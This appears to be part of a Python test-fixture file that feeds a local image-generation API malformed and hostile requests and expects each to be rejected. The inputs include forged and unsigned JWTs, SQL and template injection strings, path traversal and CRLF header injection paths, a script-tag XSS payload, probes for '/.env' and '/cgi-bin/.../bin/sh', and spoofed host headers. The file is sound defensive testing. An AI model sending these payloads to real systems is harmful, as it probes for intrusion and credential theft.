    "letters of UTF-8": ["Bearer ig_\u00d0\u00be\u00d1\u0082_{secret}"],
    "a huge secret": [f"Bearer ig_local_{'A' * 50_000}"],
    "a token that is not signed": ["Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJsb2NhbCJ9."],
    "a token that is signed by nobody": ["Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJsb2NhbCJ9.c2lnbmF0dXJl"],
    "a token that names its own key": [
        "Bearer eyJhbGciOiJSUzI1NiIsImprdSI6Imh0dHA6Ly9sb2NhbGhvc3QvIn0.eyJzdWIiOiJsb2NhbCJ9.c2ln"
    ],
    "dots": ["Bearer .."],
    "SQL": ["Bearer ' OR '1'='1"],
    "a template": ["Bearer ${env:AWS_SECRET_ACCESS_KEY}"],
}
# Where a key is not looked for: headers beside none for `Authorization`, and the query.
ELSEWHERE: dict[str, tuple[list[tuple[str, str]], str]] = {
    "a header of its own": ([("X-Api-Key", "{key}"), ("Api-Key", "{key}")], ""),
    "the header of a proxy": ([("Proxy-Authorization", "Bearer {key}")], ""),
    "a forwarded header": ([("X-Forwarded-Authorization", "Bearer {key}")], ""),
    "a cookie": ([("Cookie", "Authorization=Bearer {key}; api_key={key}")], ""),
    "the query": ([], "?api_key={key}&access_token={key}&Authorization=Bearer%20{key}"),
    "a caller of one's own": ([("X-Amzn-Principal-Id", "local"), ("principalId", "local")], ""),
}
IDEMPOTENCY_KEYS = {
    "empty": "",
    "one too long": "x" * 256,
    "huge": "x" * 50_000,
    "a tab": "a\tb",
    "a null": "a\0b",
    "an escape": "\x1b[2J",
    "a delete": "a\x7f",
    "Latin-1": "\u00e4",
    "UTF-8": "\U0001f9a6".encode().decode("latin-1"),
    "a folded line": "a\r\n b",
}
# What is none of our business, or is no number: passed over, and the image comes.
PASSED_OVER: dict[str, list[tuple[str, str]]] = {
    "a negative count of retries": [("x-stainless-retry-count", "-1")],
    "a count of retries with an exponent": [("x-stainless-retry-count", "1e9")],
    "a count of retries in words": [("x-stainless-retry-count", "one")],
    "a count of retries beyond all": [("x-stainless-retry-count", "9" * 400)],
    "a preference that nobody knows": [("Prefer", "handling=strict; foo, return=minimal, ,,;=")],
    "a wait that is no number": [("Prefer", "wait=-1, wait=1e9, wait=x, wait")],
    "a preference ten thousand times": [("Prefer", ",".join(["respond"] * 5_000))],
    "another host": [
        ("X-Forwarded-Host", "{canary}"),
        ("Forwarded", "host={canary};proto=http"),
        ("X-Host", "{canary}"),
    ],
    "another scheme": [("X-Forwarded-Proto", "javascript"), ("X-Forwarded-Port", "{canary_port}")],
    "another path": [("X-Original-URL", "/v1/models"), ("X-Rewrite-URL", "/health"), ("X-Forwarded-Prefix", "/evil")],
    "another method": [("X-HTTP-Method-Override", "DELETE"), ("X-HTTP-Method", "TRACE")],
    "a type that it cannot have": [("Accept", "text/html, image/svg+xml"), ("Accept-Language", "*" * 1000)],
    "conditions": [("If-Match", '"x"'), ("If-None-Match", "*"), ("Range", "bytes=0-0"), ("Expect", "100-continue")],
    "a trace of its own": [("X-Amzn-Trace-Id", "Root=\u00e4;Sampled=?"), ("traceparent", "00-0-0-00")],
}

# --------------------------------------------------- requests: paths and methods

_GEN = "gen_AAAAAAAAAAAAAAAAAAAAAA"
_UNKNOWN_URL = (404, None, "unknown_url")
_NO_METHOD = (405, None, "method_not_supported")
_NO_GENERATION = (404, "id", "generation_not_found")
_NO_IMAGE_ID = (404, "image_id", "image_not_found")
_ODD_IDS = {
    "a traversal": "..%2f..%2fmodels",
    "an escaped traversal": "%2e%2e%2f%2e%2e%2fhealth",
    "two dots": "..",
    "a backslash": "..%5c..%5chealth",
    "a null": "img_%00AAAAAAAAAAAAAAAAAAAA",
    "a line": "img_AAAAAAAAAAAAAAAAAAAAAA%0d%0aSet-Cookie:%20x=y",
    "a line behind": "img_AAAAAAAAAAAAAAAAAAAAAA%0a",
    "a slash behind": "img_AAAAAAAAAAAAAAAAAAAAAA%2f",
    "a percent sign": "%",
    "a percent sign of percent signs": "%2525252e",
    "no UTF-8": "%ff%fe",
    "overlong UTF-8": "%c0%ae%c0%ae",
    "letters of another script": "img_" + "%D0%90" * 22,
    "full-width digits": "img_" + "%EF%BC%91" * 22,
    "a plus": "img_AAAAAAAAAAAAAAAAAAAAA+",
    "one too long": "img_" + "A" * 23,
    "one too short": "img_" + "A" * 21,
    "another prefix": "IMG_" + "A" * 22,
    "a file": "img_AAAAAAAAAAAAAAAAAAAAAA.png",
    "SQL": "'%20OR%20'1'='1",
    "a template": "$%7B7*7%7D%7B%7B7*7%7D%7D",
    "markup": "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "a wildcard": "*",
    "very long": "img_" + "A" * 8_000,
}


@dataclass(frozen=True)
class Path:
    method: str
    target: str
    status: int
    param: str | None
    code: str


# Where the playground is.
ROOTS = {
    "nothing": "/",
    "another host": "http://{canary}/",
    "eight thousand slashes": "/" * 8_000,
    "a query": "/?prefix=http://{canary}",
}
PATHS: dict[str, Path] = {
    **{
        f"{method} a known path": Path(method, "/v1/images/generations", *_NO_METHOD)
        for method in ("PUT", "PATCH", "DELETE")
    },
    **{
        f"{method} a known path": Path(method, "/v1/images/generations", *_UNKNOWN_URL)
        for method in ("TRACE", "CONNECT", "PROPFIND", "post", "FOO")
    },
    "GET what is to be posted": Path("GET", f"/v1/images/generations/{_GEN}/cancel", *_NO_METHOD),
    "POST what is to be got": Path("POST", f"/v1/images/generations/{_GEN}", *_NO_METHOD),
    "DELETE an image": Path("DELETE", "/v1/images/img_AAAAAAAAAAAAAAAAAAAAAA", *_NO_METHOD),
    "PUT an image": Path("PUT", "/v1/images/img_AAAAAAAAAAAAAAAAAAAAAA", *_NO_METHOD),
    "POST an edit": Path("POST", "/v1/images/edits", *_UNKNOWN_URL),
    "POST a variation and a slash": Path("POST", "/v1/images/variations/", *_UNKNOWN_URL),
    "POST a page": Path("POST", "/docs", *_NO_METHOD),
    "DELETE the root": Path("DELETE", "/", *_NO_METHOD),
    **{
        f"the path of {name}": Path("GET", target, *_UNKNOWN_URL)
        for name, target in {
            "the version": "/v1",
            "the version and a slash": "/v1/",
            "another version": "/v2/models",
            "the models in capitals": "/V1/Models",
            "two slashes": "/v1//models",
            "a host ahead": "//localhost/v1/models",
            "a dot": "/v1/./models",
            "two dots": "/v1/images/../models",
            "two dots out": "/../../v1/models",
            "a backslash": "\\v1\\models",
            "an escaped slash": "/v1%2fmodels",
            "an escaped letter": "/v1/%6dodels",
            "a semicolon": "/v1/models;x=1",
            "a null": "/v1/models%00",
            "a line": "/v1/models%0d%0aX-Injected:%201",
            "an edit": "/v1/images/edits/x",
            "the chat": "/v1/chat/completions",
            "a secret": "/.env",
            "a program": "/cgi-bin/.%2e/.%2e/bin/sh",
            "the runtime of Lambda": "/2018-06-01/runtime/invocation/next",
            "the door of the local AWS": "/_door/roles",
            "a star": "*",
            "another host's models": "http://{canary}//v1/models",
            "no slash": "v1/models",
            "sixteen thousand letters": "/" + "a" * 16_000,
            "an image of an image": "/v1/images/img_AAAAAAAAAAAAAAAAAAAAAA/x",
            "what is under a result": f"/v1/images/generations/{_GEN}/result/x",
            "the images": "/v1/images",
            "the health of something": "/health/x",
        }.items()
    },
    **{f"an image id of {name}": Path("GET", f"/v1/images/{text}", *_NO_IMAGE_ID) for name, text in _ODD_IDS.items()},
    **{
        f"a generation id of {name}": Path(
            "GET", f"/v1/images/generations/{text.replace('img_', 'gen_').replace('IMG_', 'GEN_')}", *_NO_GENERATION
        )
        for name, text in _ODD_IDS.items()
    },
    "a generation that nobody has": Path("GET", f"/v1/images/generations/{_GEN}", *_NO_GENERATION),
    "a result that nobody has": Path("GET", f"/v1/images/generations/{_GEN}/result", *_NO_GENERATION),
    "a result posted that nobody has": Path("POST", f"/v1/images/generations/{_GEN}/result", *_NO_GENERATION),
    "cancelling what nobody has": Path("POST", f"/v1/images/generations/{_GEN}/cancel", *_NO_GENERATION),
    "deleting what nobody has": Path("DELETE", f"/v1/images/generations/{_GEN}", *_NO_GENERATION),
    "deleting a traversal": Path("DELETE", "/v1/images/generations/..%2f..%2fx", *_NO_GENERATION),
    "cancelling a traversal": Path("POST", "/v1/images/generations/..%2f..%2fx/cancel", *_NO_GENERATION),
    "an image for a generation": Path("GET", f"/v1/images/generations/img_{'A' * 22}", *_NO_GENERATION),
    "a key's own item for a generation": Path("GET", "/v1/images/generations/key%23local%23x", *_NO_GENERATION),
    **{
        f"{name} in a list": Path("GET", f"/v1/images/generations?{query}", 400, param, "invalid_value")
        for name, query, param in (
            ("a limit of zero", "limit=0", "limit"),
            ("a limit over all", "limit=101", "limit"),
            ("a negative limit", "limit=-1", "limit"),
            ("a limit in letters", "limit=abc", "limit"),
            ("a limit with an exponent", "limit=1e3", "limit"),
            ("a limit with a point", "limit=1.0", "limit"),
            ("a limit with a sign", "limit=%2B1", "limit"),
            ("a limit in Arabic digits", "limit=%D9%A1", "limit"),
            ("a limit of all digits", f"limit={'9' * 5_000}", "limit"),
            ("a limit and a line", "limit=1%0a", "limit"),
            ("a limit twice", "limit=1&limit=0", "limit"),
            ("an evil status", "status=evil", "status"),
            ("a status in capitals", "status=COMPLETED", "status"),
            ("a status of the inside", "status=buried", "status"),
            ("an empty status", "status=", "status"),
            ("a status of all letters", f"status={'a' * 8_000}", "status"),
            # A key of DynamoDB is not empty, and holds 2048 bytes: it answers these with an error.
            ("nothing to begin after", "after=", "after"),
            ("something very long to begin after", f"after={'a' * 8_000}", "after"),
        )
    },
}
